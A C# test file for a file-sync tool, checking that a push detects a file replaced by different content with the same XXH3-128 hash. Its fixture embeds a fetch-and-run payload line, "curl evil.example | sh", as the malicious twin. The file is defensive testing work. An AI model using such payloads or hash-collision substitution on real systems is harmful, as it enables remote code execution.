using System.Text;
using Lockstep.Native.Disk;
using Lockstep.Plan;
using Lockstep.Sessions;
using Lockstep.Sessions.Comparing;
using Lockstep.Sessions.Endpoints;
using Lockstep.Sessions.Pushing;
using Lockstep.Tests.Files;
using Lockstep.Tests.Sessions;
using Lockstep.Tests.Sessions.Live;
using Lockstep.Tests.Sessions.Peers;
using Lockstep.Tree;

namespace Lockstep.Tests.Attacks;

using PushScene = Lockstep.Tests.Sessions.PushScene;

/// <summary>
/// Issue 11, C16: somebody gives a file a new content that has the XXH3-128 of its old one, so that a push takes the
/// file for unchanged and the target goes on running what was taken back.
/// </summary>
public sealed class SameHashSamePathAttack
{
    private const string Payload = "import os; os.system('curl evil.example | sh')  #";

    private static readonly RelativePath Shop = RelativePath.Parse("shop.py");
    private static readonly byte[] Genuine = Encoding.UTF8.GetBytes(
        string.Concat(Enumerable.Range(0, 30).Select(line => $"def price_{line:d2}(): pass\n")));

    private static readonly byte[] Twin = Xxh3Twin.Of(Genuine, Payload);

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_push_sends_a_content_that_has_the_hash_of_the_old_one(bool throughWire)
    {
        using PushScene scene = await PushedAsync(throughWire, Twin);
        scene.Project.Write(Shop, Genuine);
        RunSummary summary = await PushAsync(scene);
        Assert.True(summary is { Exit: ExitCode.Done, Updated: 1 }, PushScene.Describe(summary));
        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
        scene.AssertInStep();
        await scene.AssertBaselineKnownAsync();
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task A_second_push_is_not_deceived_either_and_a_third_has_nothing_to_do(bool throughWire)
    {
        using PushScene scene = await PushedAsync(throughWire, Genuine);
        scene.Project.Write(Shop, Twin);
        await PushAsync(scene);
        Assert.Equal(Twin, scene.OnTarget().ReadFile(Shop));
        scene.Project.Write(Shop, Genuine);
        await PushAsync(scene);
        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
        RunSummary summary = await PushAsync(scene);
        Assert.True(summary is { Exit: ExitCode.Done, Run: 0, Updated: 0 }, PushScene.Describe(summary));
    }

    [Fact]
    public async Task A_second_checkout_sends_its_content()
    {
        using var scene = new SeveralCheckouts("ann", "bob");
        scene.People[0].Tree.Write(Shop, Twin);
        scene.People[1].Tree.Write(Shop, Genuine);
        await scene.People[0].PushWellAsync();
        Assert.Equal(1, (await scene.People[1].PushWellAsync(SeveralCheckouts.Plain with { Confirmed = true })).Updated);
        Assert.Equal(Encoding.UTF8.GetString(Genuine), scene.OnTarget("shop.py"));
    }

    [Fact]
    public async Task What_stands_there_unmanaged_is_not_taken_for_it()
    {
        using PushScene scene = await PushedAsync(throughWire: true, Genuine);
        RelativePath planted = RelativePath.Parse("new.py");
        scene.OnTarget().Write(planted, Twin);
        scene.Project.Write(planted, Genuine);
        RunSummary summary = await PushAsync(scene);
        Assert.True(summary.Exit == ExitCode.Refused, PushScene.Describe(summary));
    }

    [Fact]
    public async Task Diff_status_and_previews_show_it()
    {
        using PushScene scene = await PushedAsync(throughWire: true, Twin);
        scene.Project.Write(Shop, Genuine);

        ContentComparison shown = Assert.Single(await scene.CompareAsync());
        Assert.Equal((Shop, ChangeKind.Update), (shown.Change.Path, shown.Change.Kind));
        Assert.Equal(Shop, Assert.Single((await scene.StatusAsync()).Status!.Changes).Path);

        var preview = new RecordingObserver();
        await PushAsync(scene, PushScene.Agreed with { IsDryRun = true }, preview);
        Assert.Equal(Shop, Assert.Single(preview.Plan!.Changes, change => !change.IsHousekeeping).Path);
        Assert.Equal(Twin, scene.OnTarget().ReadFile(Shop));
    }

    [Fact]
    public async Task A_watch_sends_it()
    {
        using var scene = new LiveScene();
        File.WriteAllBytes(scene.Project["shop.py"], Twin);
        await scene.WatchAsync(async () =>
        {
            File.WriteAllBytes(scene.Project["shop.py"], Genuine);
            await scene.Seen.UntilAsync(() => scene.OnTarget("shop.py") == Encoding.UTF8.GetString(Genuine));
        });
    }

    [Fact]
    public async Task A_watch_that_made_the_target_sends_it()
    {
        using var scene = new LiveScene { NewRoot = "made" };
        File.WriteAllBytes(scene.Project["shop.py"], Genuine);
        using var beside = new TemporaryDirectory();
        File.WriteAllBytes(beside["twin"], Twin);
        await scene.WatchAsync(async () =>
        {
            File.Move(beside["twin"], scene.Project["shop.py"], overwrite: true);
            await scene.Seen.UntilAsync(() => scene.Seen.Batches.Count > 1);
            Assert.Equal(Twin, File.ReadAllBytes(scene.Target["made/shop.py"]));
        });
    }

    [Fact]
    public async Task What_the_target_cannot_seal_is_sent()
    {
        using var scene = new SeveralCheckouts("ann");
        Checkout ann = scene.People[0];
        ann.Tree.Write(Shop, Genuine);
        await ann.PushWellAsync();
        ann.Tree.Write(Shop, Twin);
        await PushAsync(ann, new EndpointWith { Seals = paths => new ContentSeal[paths.Count] });
        Assert.Equal(Twin, scene.Target.ReadFile(Shop));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task An_undo_puts_back_the_content_that_has_the_same_hash(bool hasSameTime)
    {
        using PushScene scene = await PushedAsync(throughWire: true, Genuine);
        Assert.True(scene.Project.TryStat(Shop, out FileStatus before));
        scene.Project.Write(Shop, Twin);
        if (hasSameTime)
        {
            scene.Project.SetModified(Shop, before.ModifiedNs);
        }

        await PushAsync(scene);
        Assert.Equal(Twin, scene.OnTarget().ReadFile(Shop));

        RunSummary summary = await scene.UndoAsync(cancellation: TestContext.Current.CancellationToken);
        Assert.True(summary is { Exit: ExitCode.Done, Updated: 1 }, PushScene.Describe(summary));
        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
    }

    [Theory]
    [InlineData(false)]
    [InlineData(true)]
    public async Task What_another_client_pushed_is_not_reverted_by_a_touch(bool hasSameTime)
    {
        using var scene = new SeveralCheckouts("ann", "bob");
        (Checkout ann, Checkout bob) = (scene.People[0], scene.People[1]);
        ann.Tree.Write(Shop, Genuine);
        ann.CopyTo(bob);
        await ann.PushWellAsync();

        // So much older than the scan that the file counts as untouched from then on.
        await Task.Delay(100, TestContext.Current.CancellationToken);
        await bob.PushWellAsync();

        scene.Target.TryStat(Shop, out FileStatus before);
        ann.Tree.Write(Shop, Twin);
        if (hasSameTime)
        {
            ann.Tree.SetModified(Shop, before.ModifiedNs);
        }

        await ann.PushWellAsync();
        bob.Tree.Write("other", "his own");
        await bob.PushWellAsync();
        bob.Tree.Write(Shop, Genuine);
        RunSummary summary = await bob.PushAsync();
        Assert.True(summary.Exit == ExitCode.Refused, PushScene.Describe(summary));
        Assert.Contains("shop.py was changed by ann@desk in run", summary.Message, StringComparison.Ordinal);
        Assert.Equal(Twin, scene.Target.ReadFile(Shop));
        await bob.PushWellAsync(SeveralCheckouts.Plain with { Force = true });
        Assert.Equal(Genuine, scene.Target.ReadFile(Shop));
    }

    [Fact]
    public async Task Each_of_several_targets_gets_it()
    {
        using var scene = new SeveralTargets();
        foreach (byte[] content in (byte[][])[Twin, Genuine])
        {
            scene.Project.Write(Shop, content);
            using ProjectView view = scene.Open();
            view.ShareAmong(2);
            RunSummary[] all = await Task.WhenAll(scene.PushAsync(view, "one"), scene.PushAsync(view, "two"));
            Assert.All(all, summary => Assert.True(summary.Exit == ExitCode.Done, PushScene.Describe(summary)));
        }

        Assert.All(["one", "two"], name => Assert.Equal(Genuine, scene.ReadOn(name, "shop.py")));
    }

    [Fact]
    public async Task Where_the_target_was_changed_meanwhile_the_file_is_compared_again_later()
    {
        using PushScene scene = await PushedAsync(throughWire: true, Twin);
        scene.OnTarget().Write(Shop, "somebody's own"u8);
        scene.Project.Write(Shop, Genuine);

        // So much older than the scan that the file counts as untouched from then on.
        await Task.Delay(100, TestContext.Current.CancellationToken);
        await PushAsync(scene);

        scene.OnTarget().Write(Shop, Twin);
        RunSummary summary = await PushAsync(scene);
        Assert.True(summary is { Exit: ExitCode.Done, Updated: 1 }, PushScene.Describe(summary));
        Assert.Equal(Genuine, scene.OnTarget().ReadFile(Shop));
    }

    [Fact]
    public async Task Only_files_that_were_read_and_have_the_hash_are_sealed()
    {
        using var scene = new SeveralCheckouts("ann");
        Checkout ann = scene.People[0];
        ann.Tree.Write(Shop, Genuine);
        ann.Tree.Write("readme", "a shop");
        ann.Tree.Write("edited", "before");

        // So much older than the scan that nobody asks whether it was written during that.
        await Task.Delay(100, TestContext.Current.CancellationToken);
        await PushSealingAsync(ann);
        Assert.Empty(await PushSealingAsync(ann));

        ann.Tree.Write("edited", "after!");
        ann.Tree.SetMode(Shop, 0x1a4);
        Assert.Equal([Shop], await PushSealingAsync(ann));
    }

    /// <summary>Pushes and tells which paths the target was asked to seal.</summary>
    private static async Task<List<RelativePath>> PushSealingAsync(Checkout checkout)
    {
        var found = new List<RelativePath>();
        await PushAsync(checkout, new EndpointWith { OnSeal = found.AddRange });
        return found;
    }

    private static async Task PushAsync(Checkout checkout, EndpointWith endpoint)
    {
        ClientContext client = checkout.Client with { Connector = (_, _, _) => Task.FromResult<IEndpoint>(endpoint) };
        using ProjectView view = checkout.Open(SeveralCheckouts.Plain);
        RunSummary summary = await Push.RunAsync(
            view, checkout.Target, SeveralCheckouts.Plain, client, new RecordingObserver(), CancellationToken.None);
        Assert.True(summary.Exit == ExitCode.Done, PushScene.Describe(summary));
    }

    private static Task<RunSummary> PushAsync(PushScene scene, PushOptions? options = null, RecordingObserver? observer = null) =>
        scene.PushAsync(options, observer, TestContext.Current.CancellationToken);

    private static async Task<PushScene> PushedAsync(bool throughWire, byte[] shop)
    {
        var scene = new PushScene(throughWire);
        scene.Project.Write(Shop, shop);
        scene.Project.Write("readme", "a shop");
        RunSummary summary = await PushAsync(scene);
        Assert.True(summary.Exit == ExitCode.Done, PushScene.Describe(summary));
        return scene;
    }
}
